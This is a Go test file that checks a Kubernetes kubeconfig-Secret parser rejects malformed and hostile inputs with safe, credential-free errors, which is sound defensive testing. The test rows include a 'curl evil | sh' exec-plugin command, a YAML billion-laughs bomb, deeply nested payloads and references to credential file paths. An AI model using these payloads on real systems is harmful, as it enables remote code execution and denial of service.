package registration_test

import (
	"bytes"
	"encoding/base64"
	"os"
	"path/filepath"
	"strings"
	"sync"
	"testing"
	"time"

	. "github.com/onsi/gomega"
	corev1 "k8s.io/api/core/v1"
	"k8s.io/client-go/tools/clientcmd"
	clientcmdapi "k8s.io/client-go/tools/clientcmd/api"
	"k8s.io/client-go/util/cert"

	"github.com/image-cloner/image-cloner/internal/registration"
	"github.com/image-cloner/image-cloner/internal/testenv"
)

// token is in every kubeconfig below: no error may repeat it.
const token = "s3cr3t-token-0123456789"

// testCert is a self-signed certificate and its key, made once: RSA key generation is slow.
var testCert = sync.OnceValues(func() ([]byte, []byte) {
	c, k, err := cert.GenerateSelfSignedCertKey("member.example", nil, nil)
	if err != nil {
		panic(err)
	}
	return c, k
})

// validConfig is a kubeconfig Parse accepts, for the rows to break.
func validConfig(t *testing.T) *clientcmdapi.Config {
	t.Helper()
	ca, _ := testCert()
	cfg := clientcmdapi.NewConfig()
	cfg.Clusters["member"] = &clientcmdapi.Cluster{Server: "https://10.0.0.1:6443", CertificateAuthorityData: ca}
	cfg.AuthInfos["hub"] = &clientcmdapi.AuthInfo{Token: token}
	cfg.Contexts["member"] = &clientcmdapi.Context{Cluster: "member", AuthInfo: "hub"}
	cfg.CurrentContext = "member"
	return cfg
}

func write(t *testing.T, cfg *clientcmdapi.Config) []byte {
	t.Helper()
	data, err := clientcmd.Write(*cfg)
	if err != nil {
		t.Fatal(err)
	}
	return data
}

// TestParse_malformedSecretsSayWhatToFix breaks a registration Secret every way we could think
// of. Each row must give an error (or be documented as accepted) that names the Secret and
// says what to fix, in bounded length, with invisible characters escaped and no credential.
func TestParse_malformedSecretsSayWhatToFix(t *testing.T) {
	caPEM, keyPEM := testCert()
	caFile := filepath.Join(t.TempDir(), "ca.crt")
	if err := os.WriteFile(caFile, caPEM, 0o600); err != nil {
		t.Fatal(err)
	}
	edit := func(f func(*clientcmdapi.Config)) func(*testing.T) []byte {
		return func(t *testing.T) []byte {
			cfg := validConfig(t)
			f(cfg)
			return write(t, cfg)
		}
	}
	fixed := func(b []byte) func(*testing.T) []byte { return func(*testing.T) []byte { return b } }
	// A billion-laughs YAML: each level refers to the previous one ten times.
	var bomb bytes.Buffer
	bomb.WriteString("a: &a [\"" + token + "\"]\n")
	for i, prev := 'b', 'a'; i <= 'j'; i, prev = i+1, i {
		bomb.WriteString(string(i) + ": &" + string(i) + " [" + strings.TrimSuffix(strings.Repeat("*"+string(prev)+",", 10), ",") + "]\n")
	}
	// An expired token has the shape of a JWT: Parse cannot tell, the hub's probe reports 401.
	expired := "eyJhbGciOiJSUzI1NiJ9." + base64.RawURLEncoding.EncodeToString([]byte(`{"exp":1000000000,"sub":"system:serviceaccount:x:y"}`)) + ".c2ln"

	for _, tc := range []struct {
		name string
		conv registration.Convention
		// key is where the kubeconfig goes; "" means the convention's.
		key         string
		annotation  string
		kubeconfig  func(*testing.T) []byte
		accepted    bool
		says        []string
		mustNotSay  []string
		clusterName string
	}{
		{name: "valid", kubeconfig: edit(func(*clientcmdapi.Config) {}), accepted: true, clusterName: "member-1"},
		{name: "valid cluster-api", conv: registration.ClusterAPI, kubeconfig: edit(func(*clientcmdapi.Config) {}), accepted: true, clusterName: "member-1"},
		{name: "valid client certificate", kubeconfig: edit(func(c *clientcmdapi.Config) {
			c.AuthInfos["hub"] = &clientcmdapi.AuthInfo{ClientCertificateData: caPEM, ClientKeyData: keyPEM}
		}), accepted: true, clusterName: "member-1"},
		{name: "expired token shape", kubeconfig: edit(func(c *clientcmdapi.Config) { c.AuthInfos["hub"].Token = expired }), accepted: true, clusterName: "member-1"},
		{name: "annotation names the cluster", annotation: "prod-eu", kubeconfig: edit(func(*clientcmdapi.Config) {}), accepted: true, clusterName: "prod-eu"},

		{name: "missing key", key: "config", kubeconfig: edit(func(*clientcmdapi.Config) {}), says: []string{`has no key "kubeconfig"`, "put the member's kubeconfig there"}},
		{name: "cluster-api missing key", conv: registration.ClusterAPI, key: "kubeconfig", kubeconfig: edit(func(*clientcmdapi.Config) {}), says: []string{`has no key "value"`, "cluster-api convention"}},
		{name: "empty", kubeconfig: fixed(nil), says: []string{`has no key "kubeconfig"`}},
		{name: "whitespace", kubeconfig: fixed([]byte(" \n\t")), says: []string{"is not a valid kubeconfig"}},
		{name: "binary garbage", kubeconfig: fixed([]byte("\x00\xff\xfe" + token + "\x01\x02")), says: []string{"is not a valid kubeconfig"}},
		{name: "yaml bomb", kubeconfig: fixed(bomb.Bytes()), says: []string{"is not a valid kubeconfig"}},
		{name: "deeply nested", kubeconfig: fixed([]byte(strings.Repeat("[", 200000) + strings.Repeat("]", 200000))), says: []string{"is not a valid kubeconfig"}},
		{name: "deeply nested maps", kubeconfig: fixed([]byte(strings.Repeat("{a: ", 50000) + "1" + strings.Repeat("}", 50000))), says: []string{"is not a valid kubeconfig"}},
		{name: "json not an object", kubeconfig: fixed([]byte(`["` + token + `"]`)), says: []string{"is not a valid kubeconfig"}},
		{name: "more than a kubeconfig", kubeconfig: edit(func(c *clientcmdapi.Config) {
			c.Clusters["member"].CertificateAuthorityData = bytes.Repeat([]byte("A"), 1<<20)
		}), says: []string{"holds 13", "more than a kubeconfig (524288 at most)"}},
		{name: "no current-context", kubeconfig: edit(func(c *clientcmdapi.Config) { c.CurrentContext = "" }), says: []string{"no current-context: set one"}},
		{name: "unknown current-context", kubeconfig: edit(func(c *clientcmdapi.Config) { c.CurrentContext = "nope" }), says: []string{`current-context "nope" is not among its contexts`}},
		{name: "right-to-left and zero-width context", kubeconfig: edit(func(c *clientcmdapi.Config) { c.CurrentContext = "mem\u202eber\u200b" }),
			says: []string{`current-context "mem\u202eber\u200b"`}, mustNotSay: []string{"\u202e", "\u200b"}},
		{name: "huge context name", kubeconfig: edit(func(c *clientcmdapi.Config) { c.CurrentContext = strings.Repeat("é", 100000) }), says: []string{`current-context "éé`, `é"... is not among`}},
		{name: "context names a missing cluster", kubeconfig: edit(func(c *clientcmdapi.Config) { c.Contexts["member"].Cluster = "gone" }), says: []string{`context "member" names cluster "gone", which it does not define`}},
		{name: "context names a missing user", kubeconfig: edit(func(c *clientcmdapi.Config) { c.Contexts["member"].AuthInfo = "gone" }), says: []string{`context "member" names user "gone", which it does not define`}},
		{name: "no server", kubeconfig: edit(func(c *clientcmdapi.Config) { c.Clusters["member"].Server = "" }), says: []string{`cluster "member" has no server address`}},
		{name: "server not a URL", kubeconfig: edit(func(c *clientcmdapi.Config) { c.Clusters["member"].Server = "https://[::1" }), says: []string{"server is not a URL", "https://host:port"}},
		{name: "server with a path and no scheme", kubeconfig: edit(func(c *clientcmdapi.Config) { c.Clusters["member"].Server = "10.0.0.1:6443/x" }), says: []string{"server is not a URL"}},
		{name: "password in server URL", kubeconfig: edit(func(c *clientcmdapi.Config) { c.Clusters["member"].Server = "https://admin:" + token + "@10.0.0.1" }), says: []string{"server holds a user name or password"}},
		{name: "password in proxy URL", kubeconfig: edit(func(c *clientcmdapi.Config) { c.Clusters["member"].ProxyURL = "http://u:" + token + "@proxy:3128" }), says: []string{"proxy-url holds a user name or password"}},
		{name: "exec plugin", kubeconfig: edit(func(c *clientcmdapi.Config) {
			c.AuthInfos["hub"].Exec = &clientcmdapi.ExecConfig{Command: "/bin/sh", Args: []string{"-c", "curl evil | sh"}, APIVersion: "client.authentication.k8s.io/v1", InteractiveMode: clientcmdapi.NeverExecInteractiveMode}
		}), says: []string{`user "hub" uses an exec or auth-provider plugin, which the hub does not run`, "use a token or client certificate"}, mustNotSay: []string{"curl"}},
		{name: "auth provider", kubeconfig: edit(func(c *clientcmdapi.Config) {
			c.AuthInfos["hub"].AuthProvider = &clientcmdapi.AuthProviderConfig{Name: "oidc", Config: map[string]string{"refresh-token": token}}
		}), says: []string{"exec or auth-provider plugin"}},
		{name: "certificate-authority file", kubeconfig: edit(func(c *clientcmdapi.Config) {
			c.Clusters["member"].CertificateAuthorityData, c.Clusters["member"].CertificateAuthority = nil, caFile
		}), says: []string{`refers to files (cluster "member" has certificate-authority)`, "hub's own filesystem", "certificate-authority-data"}, mustNotSay: []string{caFile}},
		{name: "certificate-authority file that does not exist", kubeconfig: edit(func(c *clientcmdapi.Config) {
			c.Clusters["member"].CertificateAuthorityData, c.Clusters["member"].CertificateAuthority = nil, "/etc/no-such-file"
		}), says: []string{`refers to files (cluster "member" has certificate-authority)`}, mustNotSay: []string{"no such file"}},
		{name: "token file", kubeconfig: edit(func(c *clientcmdapi.Config) {
			c.AuthInfos["hub"].TokenFile = "/var/run/secrets/kubernetes.io/serviceaccount/token"
		}), says: []string{`user "hub" has tokenFile`}},
		{name: "client certificate and key files", kubeconfig: edit(func(c *clientcmdapi.Config) {
			c.AuthInfos["hub"] = &clientcmdapi.AuthInfo{ClientCertificate: "/etc/kubernetes/pki/admin.crt", ClientKey: "/etc/kubernetes/pki/admin.key"}
		}), says: []string{`user "hub" has client-certificate, user "hub" has client-key`}},
		{name: "CA data not PEM", kubeconfig: edit(func(c *clientcmdapi.Config) {
			c.Clusters["member"].CertificateAuthorityData = []byte("not a certificate")
		}),
			says: []string{"certificates cannot be used", "must be PEM"}},
		{name: "client key not PEM", kubeconfig: edit(func(c *clientcmdapi.Config) {
			c.AuthInfos["hub"] = &clientcmdapi.AuthInfo{ClientCertificateData: caPEM, ClientKeyData: []byte(token)}
		}), says: []string{"certificates cannot be used"}},
		{name: "client certificate without key", kubeconfig: edit(func(c *clientcmdapi.Config) {
			c.AuthInfos["hub"] = &clientcmdapi.AuthInfo{ClientCertificateData: caPEM}
		}), says: []string{"client-key-data or client-key must be specified"}},
		{name: "unicode cluster name annotation", annotation: "prod\u200beu", kubeconfig: edit(func(*clientcmdapi.Config) {}),
			says: []string{`cluster name "prod\u200beu" is not valid`}, mustNotSay: []string{"\u200b"}},
		{name: "huge cluster name annotation", annotation: strings.Repeat("a", 300000), kubeconfig: edit(func(*clientcmdapi.Config) {}),
			says: []string{"cluster name", "must be no more than 253 characters"}},
	} {
		t.Run(tc.name, func(t *testing.T) {
			g := NewWithT(t)
			conv := tc.conv
			if conv == "" {
				conv = registration.Label
			}
			name := "member-1"
			s := registration.NewSecret(conv, "hub", name, tc.kubeconfig(t))
			if conv == registration.ClusterAPI {
				g.Expect(s.Name).To(Equal("member-1-kubeconfig"))
				g.Expect(s.Type).To(Equal(registration.CAPISecretType))
			}
			if tc.key != "" {
				s.Data = map[string][]byte{tc.key: firstValue(s.Data)}
			}
			if tc.annotation != "" {
				s.Annotations = map[string]string{registration.ClusterNameAnnotation: tc.annotation}
			}
			start := time.Now()
			reg, err := registration.Parse(s)
			if tc.name == "yaml bomb" || strings.HasPrefix(tc.name, "deeply nested") {
				testenv.Report(t, "registration.Parse of a %s kubeconfig (%d bytes): %s", tc.name, len(firstValue(s.Data)), time.Since(start).Round(time.Millisecond))
			}
			if tc.accepted {
				g.Expect(err).NotTo(HaveOccurred())
				g.Expect(reg.Cluster).To(Equal(tc.clusterName))
				g.Expect(reg.Config.Host).To(Equal("https://10.0.0.1:6443"))
				return
			}
			g.Expect(err).To(HaveOccurred())
			msg := err.Error()
			g.Expect(msg).To(HavePrefix("Secret hub/"+s.Name), "names the Secret")
			for _, w := range tc.says {
				g.Expect(msg).To(ContainSubstring(w))
			}
			for _, w := range append(tc.mustNotSay, token, "BEGIN", "\x00") {
				g.Expect(msg).NotTo(ContainSubstring(w))
			}
			g.Expect(len(msg)).To(BeNumerically("<", maxErrorBytes))
		})
	}
}

func firstValue(m map[string][]byte) []byte {
	for _, v := range m {
		return v
	}
	return nil
}

// TestParse_refusedFilesAreNeverOpened proves the file check comes before clientcmd's
// validation, which opens the files: a readable and a missing file give the same error, so a
// Secret cannot probe the hub's filesystem.
func TestParse_refusedFilesAreNeverOpened(t *testing.T) {
	g := NewWithT(t)
	readable := filepath.Join(t.TempDir(), "ca.crt")
	g.Expect(os.WriteFile(readable, []byte("x"), 0o600)).To(Succeed())
	var msgs []string
	for _, path := range []string{readable, filepath.Join(t.TempDir(), "missing")} {
		cfg := validConfig(t)
		cfg.Clusters["member"].CertificateAuthorityData, cfg.Clusters["member"].CertificateAuthority = nil, path
		_, err := registration.Parse(registration.NewSecret(registration.Label, "hub", "m", write(t, cfg)))
		g.Expect(err).To(HaveOccurred())
		msgs = append(msgs, err.Error())
	}
	g.Expect(msgs[0]).To(Equal(msgs[1]))
}

// TestParse_secretsOfOtherKindsAreNotRegistrations checks Matches on the Secrets a hub
// namespace also holds.
func TestParse_secretsOfOtherKindsAreNotRegistrations(t *testing.T) {
	for _, s := range []*corev1.Secret{
		{Type: corev1.SecretTypeOpaque},
		{Type: registration.CAPISecretType}, // a CAPI Secret that is not <cluster>-kubeconfig (e.g. -ca)
		{Type: corev1.SecretTypeDockerConfigJson},
	} {
		s.Name, s.Namespace = "member-ca", "hub"
		_, err := registration.Parse(s)
		NewWithT(t).Expect(err).To(MatchError(registration.ErrNotRegistration))
	}
	s := registration.NewSecret(registration.Label, "hub", "m", nil)
	s.Labels[registration.ClusterLabel] = "True"
	_, err := registration.Parse(s)
	NewWithT(t).Expect(err).To(MatchError(registration.ErrNotRegistration), `the label value is "true" exactly`)
}
